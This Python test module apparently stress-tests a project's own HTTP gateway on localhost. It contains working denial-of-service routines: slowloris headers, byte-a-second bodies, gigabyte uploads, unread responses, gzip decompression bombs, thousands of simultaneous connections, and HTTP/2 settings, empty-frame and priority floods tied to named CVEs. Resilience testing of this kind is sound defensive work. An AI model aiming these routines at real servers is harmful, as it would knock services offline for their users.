"""Attacks on the gateway besides those on any edge: `python -m tests.worlds.web_attacks NAME PORT SECONDS`.

What a server of HTTP meets: headers and bodies that trickle, bodies without end, answers that nobody reads.
"""

from __future__ import annotations

import asyncio
import gzip
from collections.abc import Awaitable, Callable
from contextlib import suppress
from typing import Final

from tests.worlds.attacks import ATTACKS, Attack, main
from tests.worlds.raw_http2 import PREFACE, block, frame

Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]

SETTINGS, PING, DATA, PRIORITY = 4, 6, 0, 2
_POST: Final = b"POST /v1/cart/items HTTP/1.1\r\nhost: shop.example\r\ncontent-type: application/json\r\n"
_PAGE: Final = b"GET /v1/products?pageSize=100 HTTP/1.1\r\nhost: shop.example\r\n\r\n"
_LARGE: Final = b"GET /large.bin HTTP/1.1\r\nhost: shop.example\r\n\r\n"


async def _open(attack: Attack, number: int) -> list[Streams]:
    found = []
    for _ in range(number):
        with suppress(OSError):
            found.append(await asyncio.open_connection("127.0.0.1", attack.port))
            attack.begun += 1
    return found


def _still(attack: Attack) -> bool:
    """The same as `going`, for loops in a loop that has asked it."""
    return attack.going


async def _end(attack: Attack, opened: list[Streams]) -> None:
    """Count who was closed, and what was said."""
    for reader, writer in opened:
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(0.01):
                said = await reader.read(64)
                attack.ends[said[9:12].decode(errors="replace") if said else "CLOSED"] += 1
        writer.close()


async def _trickle(attack: Attack, first: bytes, piece: bytes, number: int) -> None:
    opened = await _open(attack, number)
    for _, writer in opened:
        writer.write(first)
    while attack.going:
        await asyncio.sleep(1)
        for _, writer in opened:
            if not writer.is_closing():
                writer.write(piece)
    await _end(attack, opened)


async def slow_headers(attack: Attack) -> None:
    """1,500 requests whose headers never end, a line a second (slowloris)."""
    await _trickle(attack, _POST, b"x-more: 1\r\n", 1_500)


async def slow_bodies(attack: Attack) -> None:
    """1,500 requests whose bodies come a byte a second."""
    await _trickle(attack, _POST + b"content-length: 100000\r\n\r\n{", b" ", 1_500)


async def huge_bodies(attack: Attack) -> None:
    """Bodies beyond any bound, as fast as they are taken."""
    part = b" " * 65_536

    async def one() -> None:
        while attack.going:
            with suppress(OSError):
                reader, writer = await asyncio.open_connection("127.0.0.1", attack.port)
                attack.begun += 1
                writer.write(_POST + b"content-length: 1073741824\r\n\r\n")
                while _still(attack):
                    writer.write(part)
                    await writer.drain()
                    await asyncio.sleep(0.002)
                await _end(attack, [(reader, writer)])

    await asyncio.gather(*(one() for _ in range(8)))


async def _unread(attack: Attack, request: bytes, number: int, each: int) -> None:
    opened = await _open(attack, number)
    for _, writer in opened:
        writer.transport.pause_reading()  # type: ignore[attr-defined]  # of a socket's transport
        writer.write(request * each)
    await attack.rest()
    for _, writer in opened:
        attack.ends["CLOSED" if writer.is_closing() else "OPEN"] += 1
        writer.transport.abort()


async def unread_pages(attack: Attack) -> None:
    """300 connections with a hundred requests each, of which no answer is read."""
    await _unread(attack, _PAGE, 300, 100)


async def unread_files(attack: Attack) -> None:
    """1,000 connections that ask for a large file and do not read it."""
    await _unread(attack, _LARGE, 1_000, 10)


async def json_bombs(attack: Attack) -> None:
    """Bodies that say that they are compressed: 10 KB of 10 MB."""
    bomb = gzip.compress(b" " * 10_000_000, 9)
    head = _POST + b"content-encoding: gzip\r\ncontent-length: %d\r\n\r\n" % len(bomb)

    async def one() -> None:
        while attack.going:
            await attack.pace(1)
            with suppress(OSError):
                opened = await asyncio.open_connection("127.0.0.1", attack.port)
                opened[1].write(head + bomb)
                with suppress(TimeoutError):
                    async with asyncio.timeout(5):
                        said = await opened[0].read(64)
                        attack.ends[said[9:12].decode(errors="replace") or "CLOSED"] += 1
                opened[1].close()

    await asyncio.gather(*(one() for _ in range(8)))


async def _frames(attack: Attack, kind: int, flags: int, body: bytes, *, stream: int = 0) -> None:
    """One frame after the other on one connection; anew when it is closed."""
    flood = frame(kind, flags, stream, body) * 200

    async def one() -> None:
        while attack.going:
            with suppress(OSError):
                _, writer = await asyncio.open_connection("127.0.0.1", attack.port)
                attack.begun += 1
                writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
                if stream:
                    writer.write(frame(1, 4, stream, block("/marketplace.catalog.v1.CatalogService/ListProducts")))
                while _still(attack) and not writer.is_closing():
                    writer.write(flood)
                    await writer.drain()
                    await asyncio.sleep(0.05)
                attack.ends["CLOSED" if writer.is_closing() else "OPEN"] += 1
                writer.close()
            await asyncio.sleep(0.01)

    await asyncio.gather(*(one() for _ in range(8)))


async def settings_flood(attack: Attack) -> None:
    """Settings that must each be answered (CVE-2019-9515)."""
    await _frames(attack, SETTINGS, 0, b"")


async def empty_data(attack: Attack) -> None:
    """Frames without anything in them (CVE-2019-9518)."""
    await _frames(attack, DATA, 0, b"", stream=1)


async def priorities(attack: Attack) -> None:
    """The order of streams, anew and anew (CVE-2019-9513)."""
    await _frames(attack, PRIORITY, 0, b"\0\0\0\0\x10", stream=1)


async def thousands(attack: Attack) -> None:
    """8,000 connections at once, each with a request."""
    opened: list[Streams] = []

    async def some() -> None:
        opened.extend(await _open(attack, 500))

    await asyncio.gather(*(some() for _ in range(16)))
    for _, writer in opened:
        writer.write(_PAGE.replace(b"pageSize=100", b"pageSize=2"))
    for reader, _ in opened:
        said = b""
        with suppress(OSError, TimeoutError):
            async with asyncio.timeout(15):
                said = await reader.read(64)
        attack.ends[said[9:12].decode(errors="replace") or "CLOSED"] += 1
    await attack.rest()
    for _, writer in opened:
        writer.close()


WEB_ATTACKS: Final[dict[str, Callable[[Attack], Awaitable[None]]]] = {
    each.__name__: each
    for each in (
        slow_headers,
        slow_bodies,
        huge_bodies,
        unread_pages,
        unread_files,
        json_bombs,
        settings_flood,
        empty_data,
        priorities,
        thousands,
    )
}

if __name__ == "__main__":
    main({**ATTACKS, **WEB_ATTACKS})
